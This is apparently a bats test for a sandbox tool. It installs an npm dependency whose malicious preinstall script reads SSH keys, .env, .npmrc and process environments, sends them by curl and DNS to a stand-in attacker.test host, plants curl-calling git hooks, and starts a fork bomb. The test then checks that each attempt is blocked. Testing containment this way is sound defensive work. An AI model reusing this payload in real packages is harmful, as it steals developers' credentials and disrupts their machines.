#!/usr/bin/env bats
# The second job (issue 22): `npm install && npm test` of a stranger's
# repository whose dependency has a malicious preinstall, in the fake world
# of world.bash. The registry (npmreg.py, registry.test = 192.0.2.80) serves
# packuments and tarballs the test packs; the attacker has a web server
# (attacker.test = 203.0.113.66, npmreg.py as a sink logging every request)
# and is the fake resolver's authoritative server for *.attacker.test (every
# query it sees goes to $DNS_LOG). Nothing here sends a packet to a real
# address.
#
# The preinstall reads ~/.ssh/id_rsa (the sandbox's home, the caller's and
# the workspace's), .env, .npmrc and every /proc/*/environ; sends what it
# read with curl (through the proxy, by CONNECT, straight to the address)
# and in DNS names (through the sandbox's resolver and straight to the
# attacker's); plants git hooks in the workspace; and starts a fork bomb
# that ends by itself after 3 s. It writes what happened to
# /workspace/attack.log and what it read to /workspace/loot.txt.

load ../integration/helpers
load world

# the fake internet's own web servers stay off port 80: npmreg.py has it
WORLD_WEB_PORTS=8443

setup_file() { world_setup_file; }
setup() {
    world_setup
    command -v npm >/dev/null || skip "npm not installed"
    command -v git >/dev/null || skip "git not installed"
}
teardown() { world_teardown; }

new_canaries() {
    local c="ajcanary-$RANDOM$RANDOM-$BASHPID"
    C_NPM=$c-npmtoken
    C_ENV=$c-dotenv
    C_SSH_WS=$c-ws-idrsa
    C_SSH_HOME=$c-home-idrsa
    C_VAR=$c-callervar
    C_SECRET=$c-secretflag
    CANARIES=("$C_NPM" "$C_ENV" "$C_SSH_WS" "$C_SSH_HOME" "$C_VAR" "$C_SECRET")
}

# NAME VERSION DIR: tar DIR's files as package/ into $T/pkgs/NAME-VERSION.tgz
pack() {
    mkdir -p "$T/pkgs"
    tar -C "$3/.." -czf "$T/pkgs/$1-$2.tgz" --transform "s,^$(basename "$3"),package," "$(basename "$3")"
}

# The packages: benign-lib depends on tiny-helper, whose preinstall attacks.
make_packages() {
    local d=$T/src
    mkdir -p "$d/benign-lib" "$d/tiny-helper"
    cat >"$d/benign-lib/package.json" <<'EOF'
{"name": "benign-lib", "version": "1.0.0", "main": "index.js",
 "dependencies": {"tiny-helper": "1.0.0"}}
EOF
    echo 'const pad = require("tiny-helper"); module.exports = (a, b) => pad(String(a + b), 4);' \
        >"$d/benign-lib/index.js"
    cat >"$d/tiny-helper/package.json" <<'EOF'
{"name": "tiny-helper", "version": "1.0.0", "main": "index.js",
 "scripts": {"preinstall": "sh preinstall.sh"}}
EOF
    echo 'module.exports = (s, n) => s.padStart(n, "0");' >"$d/tiny-helper/index.js"
    # shellcheck disable=SC2016 # expanded inside the sandbox
    sed "s,@CALLER_HOME@,$T/home," >"$d/tiny-helper/preinstall.sh" <<'EOF'
R=/workspace/attack.log L=/workspace/loot.txt
{
    for f in "$HOME/.ssh/id_rsa" /root/.ssh/id_rsa @CALLER_HOME@/.ssh/id_rsa \
        /workspace/.ssh/id_rsa /workspace/.env /workspace/.npmrc; do
        echo "== $f"; cat "$f"
    done
    for e in /proc/[0-9]*/environ; do echo "== $e"; tr '\0' '\n' <"$e"; done
} >"$L" 2>&1
echo "read=$(wc -c <"$L")" >>$R
curl -s -m 5 -o /dev/null -w 'curl-proxy=%{http_code}\n' --data-binary @"$L" http://attacker.test/steal >>$R
curl -s -m 5 -o /dev/null -w 'curl-connect=%{http_connect}\n' --data-binary @"$L" https://attacker.test/steal >>$R
curl -s -m 5 -o /dev/null --noproxy '*' --data-binary @"$L" http://203.0.113.66/steal
echo "curl-direct-rc=$?" >>$R
h=$(head -c 24 "$L" | od -An -tx1 | tr -d ' \n')
getent hosts "$h.exfil.attacker.test" >/dev/null
echo "dns-resolver-rc=$?" >>$R
echo "dns-direct=$(python3 /dnsq.py 192.0.2.53 "$h.exfil.attacker.test" | head -1)" >>$R
for f in post-checkout pre-commit; do
    if printf '#!/bin/sh\ncurl http://attacker.test/hook\n' >/workspace/.git/hooks/$f 2>/dev/null; then
        echo "hook-$f=planted"
    else
        echo "hook-$f=refused"
    fi
done >>$R
git -C /workspace config core.hooksPath /tmp 2>/dev/null && echo hookspath=set >>$R || echo hookspath=refused >>$R
python3 - <<'PY'
import os, time
end = time.time() + 3
hit = False
while time.time() < end:
    try:
        os.fork()  # parent and child go on forking
    except OSError:
        if not hit:
            hit = True
            try:
                os.close(os.open("/tmp/bomb-hit", os.O_CREAT | os.O_WRONLY, 0o644))
            except OSError:
                pass
        time.sleep(0.05)
os._exit(0)
PY
i=0
while [ "$(ls -d /proc/[0-9]* | wc -l)" -gt 40 ] && [ $i -lt 100 ]; do sleep 0.1; i=$((i + 1)); done
[ -e /tmp/bomb-hit ] && echo bomb=limited >>$R || echo bomb=unlimited >>$R
echo preinstall=done >>$R
EOF
    pack benign-lib 1.0.0 "$d/benign-lib"
    pack tiny-helper 1.0.0 "$d/tiny-helper"
}

# The stranger's repository, with the secrets a developer has lying around.
make_repo() {
    cat >"$WS/package.json" <<'EOF'
{"name": "strangers-repo", "version": "0.1.0", "private": true,
 "dependencies": {"benign-lib": "1.0.0"},
 "scripts": {"test": "node test.js"}}
EOF
    cat >"$WS/test.js" <<'EOF'
const add = require("benign-lib");
if (add(40, 2) !== "0042") { console.error("benign-lib is broken"); process.exit(1); }
console.log("benign-tests=passed");
EOF
    printf 'registry=http://registry.test/\n//registry.test/:_authToken=%s\n' "$C_NPM" >"$WS/.npmrc"
    printf 'DATABASE_URL=postgres://app:%s@db/app\n' "$C_ENV" >"$WS/.env"
    mkdir -p "$WS/.ssh" "$T/home/.ssh"
    echo "$C_SSH_WS" >"$WS/.ssh/id_rsa"
    echo "$C_SSH_HOME" >"$T/home/.ssh/id_rsa"
    git -C "$WS" init -q
}

# The registry and the attacker's web server in the fake internet.
npm_world_up() {
    ip -n "$INS" addr add 192.0.2.80/32 dev lo
    ip -n "$INS" addr add 203.0.113.66/32 dev lo
    REG_LOG=$T/registry.jsonl
    ATT_LOG=$T/attacker.jsonl
    : >"$REG_LOG"
    : >"$ATT_LOG"
    ip netns exec "$INS" python3 "$NET_DIR/npmreg.py" --bind 192.0.2.80 --log "$REG_LOG" \
        --packages "$T/pkgs" --ready "$T/reg.ready" >/dev/null 2>&1 3>&- &
    WORLD_PIDS+=($!)
    local port
    for port in 80 443; do
        ip netns exec "$INS" python3 "$NET_DIR/npmreg.py" --bind 203.0.113.66 --port $port \
            --log "$ATT_LOG" --ready "$T/att$port.ready" >/dev/null 2>&1 3>&- &
        WORLD_PIDS+=($!)
    done
    local i
    for ((i = 0; i < 200; i++)); do
        [ -e "$T/reg.ready" ] && [ -e "$T/att80.ready" ] && [ -e "$T/att443.ready" ] && return 0
        sleep 0.05
    done
    fail "the registry or the attacker's server did not start"
}

@test "npm: install and test a repository whose dependency's preinstall attacks; every attempt is contained" {
    new_canaries
    make_packages
    make_repo
    npm_world_up
    run --separate-stderr env HOME="$T/home" AWS_SECRET_ACCESS_KEY="$C_VAR" \
        timeout -k 5 "$AJ_TIMEOUT" nsenter --net="/run/netns/$HNS" \
        "$AJ" run "${AJ_QUIET[@]}" --workspace "$WS" --ro "$NET_DIR/dnsq.py:/dnsq.py" \
        --allow registry.test --dns 192.0.2.53 --net-log "$T/net.jsonl" --pids 128 \
        --secret "NPM_TOKEN=$C_SECRET" \
        --env npm_config_audit=false --env npm_config_fund=false \
        --env npm_config_update_notifier=false \
        -- sh -c 'npm install && npm test' </dev/null
    # the benign install and tests pass
    assert_status 0
    assert_output_has_line "benign-tests=passed"
    [ -f "$WS/node_modules/benign-lib/index.js" ] || fail "benign-lib not installed"
    local report
    report=$(cat "$WS/attack.log" 2>/dev/null) || fail "the preinstall did not run"
    echo "$report" >&2
    [[ "$report" == *"preinstall=done"* ]] || fail "the preinstall did not finish: $report"
    # npm went to registry.test, as the masked .npmrc still says, with the
    # placeholder as its token
    grep -q '"path": "/benign-lib"' "$REG_LOG" || fail "registry.test was not asked: $(cat "$REG_LOG")"
    grep -q '"authorization": "Bearer agentjail-masked"' "$REG_LOG" ||
        grep -qi '"authorization": "Bearer agentjail-masked"' "$REG_LOG" ||
        fail "the registry did not get the placeholder token: $(cat "$REG_LOG")"
    # no secret value in any output, in what the preinstall could read, or
    # in anything a server, the resolver or the net-log received
    local c f
    for c in "${CANARIES[@]}"; do
        for f in "$WS/loot.txt" "$WS/attack.log" "$REG_LOG" "$ATT_LOG" "$DNS_LOG" "$T/net.jsonl"; do
            ! grep -q "$c" "$f" || fail "$c is in $f"
        done
        [[ "$output$stderr" != *"$c"* ]] || { _aj_dump; fail "$c reached the caller"; }
    done
    grep -q "DATABASE_URL=agentjail-masked" "$WS/loot.txt" || fail ".env: keys not kept"
    grep -q "NPM_TOKEN=agentjail-placeholder-NPM_TOKEN-" "$WS/loot.txt" || fail "no placeholder in environ"
    # every network attempt was refused, the attacker's servers got nothing
    [[ "$report" == *"curl-proxy=403"* ]] || fail "curl through the proxy: $report"
    [[ "$report" == *"curl-connect=403"* ]] || fail "CONNECT: $report"
    [[ "$report" != *"curl-direct-rc=0"* ]] || fail "curl straight to the address: $report"
    [[ "$report" != *"dns-resolver-rc=0"* ]] || fail "the resolver answered: $report"
    [[ "$report" == *"dns-direct=timeout"* ]] || fail "DNS straight to the attacker: $report"
    [ ! -s "$ATT_LOG" ] || fail "the attacker's server received: $(cat "$ATT_LOG")"
    [ "$(dns_seen 'attacker\.test')" -eq 0 ] || fail "the attacker's resolver saw: $(cat "$DNS_LOG")"
    q() { jq -c "select($1)" "$T/net.jsonl" | wc -l; }
    [ "$(q '.event == "proxy" and .host == "attacker.test" and .verdict == "refused"')" -ge 2 ] ||
        fail "proxy refusals not logged: $(cat "$T/net.jsonl")"
    [ "$(q '.event == "connect" and .address == "203.0.113.66" and .verdict == "refused"')" -ge 1 ] ||
        fail "direct connection not logged: $(cat "$T/net.jsonl")"
    [ "$(q '.event == "dns" and (.name | endswith("exfil.attacker.test")) and .verdict == "refused"')" -ge 1 ] ||
        fail "DNS exfiltration not logged: $(cat "$T/net.jsonl")"
    [ "$(q '.event == "connect" and .address == "192.0.2.53" and .verdict == "refused"')" -ge 1 ] ||
        fail "DNS to the attacker's server not logged: $(cat "$T/net.jsonl")"
    [ "$(q '.event == "proxy" and .host == "registry.test" and .verdict == "allowed"')" -ge 1 ] ||
        [ "$(q '.event == "connect" and .address == "192.0.2.80" and .verdict == "allowed"')" -ge 1 ] ||
        fail "registry.test not logged as allowed: $(cat "$T/net.jsonl")"
    # no hook planted in the host's workspace
    [[ "$report" == *"hook-post-checkout=refused"* && "$report" == *"hook-pre-commit=refused"* ]] ||
        fail "hooks: $report"
    [[ "$report" == *"hookspath=refused"* ]] || fail "core.hooksPath: $report"
    [ ! -e "$WS/.git/hooks/post-checkout" ] && [ ! -e "$WS/.git/hooks/pre-commit" ] ||
        fail "a hook is in the host's workspace"
    [ -z "$(git -C "$WS" config core.hooksPath)" ] || fail "core.hooksPath set on the host"
    # the fork bomb met the pids limit and is gone; the host still forks
    [[ "$report" == *"bomb=limited"* ]] || fail "the fork bomb was not limited: $report"
    [ "$(/bin/echo host-forks)" = host-forks ]
    # the host's workspace files are intact
    grep -q "$C_NPM" "$WS/.npmrc" && grep -q "$C_ENV" "$WS/.env" || fail "host files changed"
}
